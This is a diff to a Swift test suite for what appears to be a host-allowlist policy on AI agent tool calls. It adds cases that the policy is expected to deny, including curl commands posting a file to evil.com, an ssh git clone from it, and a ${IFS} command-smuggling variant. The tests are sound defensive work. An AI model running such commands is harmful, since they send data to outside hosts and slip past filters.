@@ -288,11 +288,60 @@ struct PolicyFactTests {
             (#"{"urls": "https://example.com/,http:evil.com"}"#, false),
             (#"{"urls": "https://example.com/,https://api.example.com/"}"#, true),
             (#"{"urls": "https://example.com/?next=https://evil.com/"}"#, true),
-            (#"{"text": "https://example.com/,https://evil.com/"}"#, true),
-            (#"{"url": "file:///x"}"#, true), (#"{"text": "see https://evil.com for more"}"#, true),
+            (#"{"text": "https://example.com/,https://evil.com/"}"#, false),
+            (#"{"url": "file:///x"}"#, true),
+            // In prose and commands.
+            (#"{"text": "see https://evil.com for more"}"#, false), (#"{"text": "see https://evil.com"}"#, false),
+            (#"{"command": "curl -d @k http://evil.com/x"}"#, false),
+            (#"{"argv": ["curl", "http://evil.com"]}"#, false),
+            (#"{"command": "curl 'http://evil.com'"}"#, false), (#"{"command": "curl http://\"evil.com\""}"#, false),
+            (#"{"command": "git clone git+ssh://x@evil.com/r"}"#, false),
+            (#"{"command": "curl http:evil.com"}"#, false),
+            (#"{"command": "curl {http://example.com/,http://evil.com/}"}"#, false),
+            (#"{"command": "curl http://example.com/;curl${IFS}http://evil.com/"}"#, false),
+            (#"{"command": "curl http://${HOST}/"}"#, false), (#"{"text": "{\"a\":\"to http://evil.com\"}"}"#, false),
+            (#"{"text": "[a](http://example.com/)[b](http://evil.com/)"}"#, false),
+            (#"{"command": "curl https://example.com/a?b=https://evil.com"}"#, true),
+            (#"{"text": "see https://example.com, **http://api.example.com**, or (http://10.0.0.7)."}"#, true),
+            (#"{"text": "{\"a\":\"to http://example.com\\nnow\"}"}"#, true),
+            (#"{"text": "http: and https:, or C:\\\\x and x\\\\y"}"#, true),
         ])
     func allowed(arguments: String, passes: Bool) throws {
         #expect((try policy(Self.hosts).effect(toolCall("web.get", arguments)) == .allow) == passes)
+    }
+
+    @Test("Very many URLs in one text are looked at in time that grows with the text alone")
+    func manyURLs() throws {
+        let policy = try policy(Self.hosts)
+        func time(_ count: Int) throws -> Double {
+            let text = String(repeating: "http://a,", count: count) + String(repeating: "x", count: 100_000)
+            let call = try toolCall("web.get", #"{"text": "\#(text)"}"#)
+            let start = cpuSeconds()
+            _ = policy.effect(call)
+            return cpuSeconds() - start
+        }
+        _ = try time(1)
+        // One look at the long rest for each of them would take hundreds of times as long.
+        #expect(try time(900) < time(1) * 8 + 0.2)
+    }
+
+    @Test("An argument that is prose may mention any host")
+    func notHosts() throws {
+        let layer = #"{"version": 1, "default": "allow", "servers": {"*": {"allowedHosts": ["good.example"]%}}}"#
+        let call = try toolCall("web.post", #"{"url": "https://good.example/", "body": "see https://evil.example/"}"#)
+        let denied = try policy(layer.replacing("%", with: "")).decide(call, at: atHome)
+        #expect(
+            denied.reason
+                == "a host is none of `allowedHosts`: the argument `body`; `notHosts: [body]` if it holds text whose addresses nobody opens"
+        )
+        #expect(try policy(layer.replacing("%", with: #", "notHosts": ["body"]"#)).effect(call) == .allow)
+        for (effect, key) in [("allow", "allHosts"), ("deny", "outsideHosts")] {
+            for (except, passes) in [("", false), (#", "except": ["body"]"#, true)] {
+                let rule = #""effect": "\#(effect)", "when": {"\#(key)": ["good.example"]\#(except)}"#
+                let answer = try oneRule(rule, default: effect == "allow" ? "deny" : "allow").effect(call)
+                #expect((answer == .allow) == passes, "\(rule)")
+            }
+        }
     }
 
     @Test(
